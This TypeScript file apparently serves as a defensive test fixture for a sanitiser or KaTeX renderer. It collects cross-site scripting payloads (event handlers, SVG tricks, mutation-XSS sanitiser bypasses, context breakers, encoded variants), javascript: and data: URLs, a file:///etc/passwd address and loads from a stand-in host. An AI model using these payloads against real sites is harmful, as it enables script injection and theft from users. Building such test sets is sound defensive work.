/**
 * What would run a script if it came into a page as it stands, by technique. Each calls `ran` with a
 * number of its own, so that one that runs can be told. The techniques are known from the HTML
 * standard's parsing rules, OWASP's list of filter evasions and published bypasses of sanitisers; the
 * texts are our own.
 *
 * @see https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */

/** What a browser runs by itself, wherever HTML may stand. */
const ELEMENTS = [
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script/x>RUN</script\t>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script src="https://payload.example/a.js"></script>',
  '<script type="module">RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<img src="x:" onerror="RUN">',
  '<img src=x: oNeRrOr=RUN>',
  '<img/src="x:"/onerror="RUN"/>',
  '<img src="x:" onerror="&#82;&#85;&#78;;RUN">',
  '<img src="x:" onerror\n=\n"RUN">',
  '<img src=x: onerror=`RUN`>',
  '<image src="x:" onerror="RUN">',
  '<svg onload="RUN"></svg>',
  '<svg/onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN" /></svg>',
  '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
  '<svg><a><animate attributeName="href" values="javascript:RUN"/><text y="9">x</text></a></svg>',
  '<svg><foreignObject><img src="x:" onerror="RUN"></foreignObject></svg>',
  '<body onload="RUN">',
  '<details open ontoggle="RUN">x</details>',
  '<input autofocus onfocus="RUN">',
  '<video><source onerror="RUN"></video>',
  '<audio src="x:" onerror="RUN"></audio>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<meta http-equiv="refresh" content="0; url=javascript:RUN">',
  '<base href="https://payload.example/">',
  '<link rel="stylesheet" href="https://payload.example/a.css">',
  '<form action="javascript:RUN"><button autofocus formaction="javascript:RUN">x</button></form>',
  '<marquee onstart="RUN">x</marquee>',
  '<p style="animation: view-transition" onanimationstart="RUN">x</p>',
  '<p id="location" name="document"><a id="ran" name="ran">x</a></p>',
] as const;

/** What hides from a sanitiser that reads HTML otherwise than a browser does. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
  '<math><annotation-xml encoding="text/html"><img src="x:" onerror="RUN"></annotation-xml></math>',
  '<template><img src="x:" onerror="RUN"></template><template shadowrootmode="open"><script>RUN</script></template>',
  '<xmp><p title="</xmp><img src=x: onerror=RUN>"></xmp>',
  '<listing>&lt;img src=x: onerror=RUN&gt;</listing>',
  '<select><style><img src=x: onerror=RUN></style></select>',
] as const;

/** What ends the place that it is put into, and goes on as HTML. */
const BREAKERS = [
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '</script><script>RUN</script>',
  '<!--</script><script>RUN</script>-->',
  '--><script>RUN</script><!-- -->',
  '--!><img src="x:" onerror="RUN">',
  ']]><script>RUN</script>',
  '"><img src="x:" onerror="RUN">',
  "'><img src='x:' onerror='RUN'>",
  '" autofocus onfocus="RUN" x="',
  "' autofocus onfocus='RUN' x='",
  '` autofocus onfocus=RUN x=`',
  '<?xml version="1.0"?><script>RUN</script>',
  '<![CDATA[<script>RUN</script>]]>',
] as const;

/** What some reader along the way makes HTML of. */
const ENCODED = [
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x: onerror=RUN&#62;',
  '&amp;lt;img src=x: onerror=RUN&amp;gt;',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\\x3cimg src=x: onerror=RUN\\x3e',
  '%3Cscript%3ERUN%3C/script%3E',
  '＜script＞RUN＜/script＞',
  '‹img src=x: onerror=RUN›',
  '<\u200bscript>RUN</script>',
  '<ſcript>RUN</ſcript>',
  '\u202e<script>RUN</script>\u202c',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
] as const;

/** @param number told when it runs */
function numbered(text: string, number: number): string {
  return text.replaceAll('RUN', `ran(${number})`);
}

/** HTML that would run. */
export const payloads: readonly string[] = [...ELEMENTS, ...MUTATIONS, ...BREAKERS, ...ENCODED].map(
  numbered,
);

/**
 * Addresses that would run when they are followed, or lead where nobody means to go. No link may have
 * one.
 */
export const hostileAddresses: readonly string[] = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  '\u0001javascript:RUN',
  'javascript://payload.example/%0aRUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=',
  'vbscript:RUN',
  'blob:https://payload.example/1',
  'file:///etc/passwd',
].map(numbered);

/** Formulas that would make HTML or links of what they hold, if KaTeX trusted them. */
export const hostileFormulas: readonly string[] = [
  String.raw`\href{javascript:RUN}{x}`,
  String.raw`\url{javascript:RUN}`,
  String.raw`\includegraphics{https://payload.example/a.png}`,
  String.raw`\htmlData{onclick=RUN}{x}`,
  String.raw`\htmlStyle{background: url(https://payload.example/a.png)}{x}`,
  String.raw`\htmlId{main}{x}`,
  String.raw`\htmlClass{skip-link}{x}`,
  String.raw`\text{<img src=x: onerror=RUN>}`,
].map(numbered);
